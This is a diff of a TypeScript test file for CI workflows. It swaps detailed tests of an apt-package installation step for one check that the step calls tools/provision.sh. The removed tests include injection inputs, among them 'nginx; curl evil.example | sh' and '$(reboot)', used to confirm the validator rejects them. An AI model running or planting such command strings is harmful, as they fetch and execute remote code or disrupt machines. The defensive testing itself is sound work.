@@ -1,5 +1,4 @@
-// The shell the workflows run, run for real with bash: stubs stand in for sudo/apt-get and the
-// Pulumi CLI, a local bare repository for GitHub. Nothing leaves the machine.
+// The shell the workflows run, run for real with bash: stubs stand in for the Pulumi CLI, a local bare repository for GitHub. Nothing leaves the machine.
 import { execFileSync } from "child_process";
 import * as fs from "fs";
 import * as os from "os";
@@ -26,62 +25,10 @@ function logOf(stubs: string, name: string): string[] {
   return fs.existsSync(file) ? fs.readFileSync(file, "utf8").trim().split("\n") : [];
 }
 
-describe("ci.yml installs the Debian tools listed in .github/apt-packages.txt", () => {
-  const script = stepById(workflow("ci.yml"), "check", "apt-packages").run!;
-  // `sudo` runs its arguments; `apt-get` only records them; `apt-cache` knows every package but
-  // "awscli" (as on Ubuntu's runners, which ship AWS CLI v2 preinstalled instead).
-  const stubs = stubCommands(tmp, { sudo: '"$@"', "apt-get": "exit 0", "apt-cache": '[ "$2" != awscli ]' });
-  const run = (list: string) => {
-    fs.rmSync(path.join(stubs, "apt-get.log"), { force: true });
-    const cwd = freshDir({ ".github/apt-packages.txt": list });
-    return runScript(script, cwd, { PATH: `${stubs}:${process.env.PATH}` });
-  };
-
-  test("the repository's list is valid", () => {
-    const result = runScript(script, ROOT, { PATH: `${stubs}:${process.env.PATH}` });
-    expect(result).toMatchObject({ status: 0 });
+describe("ci.yml installs the Debian tools through tools/provision.sh", () => {
+  test("the step runs the script npm run check and .ci/run use (tests/tools/provision.test.ts)", () => {
+    expect(stepById(workflow("ci.yml"), "check", "apt-packages").run!.trim()).toBe("bash tools/provision.sh");
   });
-
-  test("installs every listed package in one apt-get call, skipping comments and blank lines", () => {
-    const result = run("# tools\nnginx\n\n  shellcheck   # scripts/\nprometheus\npostgresql-16=16.10-1\n");
-    expect(result.status).toBe(0);
-    expect(logOf(stubs, "apt-get")).toEqual([
-      "update",
-      "install -y --no-install-recommends nginx shellcheck prometheus postgresql-16=16.10-1",
-    ]);
-  });
-
-  test("skips, with a notice, a package the runner's distribution lacks", () => {
-    const result = run("nginx\nawscli\nshellcheck\n");
-    expect(result.status).toBe(0);
-    expect(result.stdout).toContain("awscli is not in this runner's apt sources");
-    expect(logOf(stubs, "apt-get")).toEqual([
-      "update",
-      "install -y --no-install-recommends nginx shellcheck",
-    ]);
-  });
-
-  test("calls apt-get not at all when the list is only comments", () => {
-    const result = run("# nothing yet\n\n");
-    expect(result.status).toBe(0);
-    expect(result.stdout).toContain("lists no packages");
-    expect(logOf(stubs, "apt-get")).toEqual([]);
-  });
-
-  test("reads a last line without a newline", () => {
-    expect(run("nginx\nshellcheck").status).toBe(0);
-    expect(logOf(stubs, "apt-get")[1]).toBe("install -y --no-install-recommends nginx shellcheck");
-  });
-
-  test.each([["nginx; curl evil.example | sh"], ["$(reboot)"], ["-o=APT::Get::foo"], ["Nginx"]])(
-    "refuses %j before calling apt-get",
-    (line) => {
-      const result = run(`nginx\n${line}\n`);
-      expect(result.status).toBe(1);
-      expect(result.stdout).toContain("::error file=.github/apt-packages.txt::Not a Debian package name");
-      expect(logOf(stubs, "apt-get")).toEqual([]);
-    },
-  );
 });
 
 describe("deploy.yml checks a dispatched image before anything else", () => {
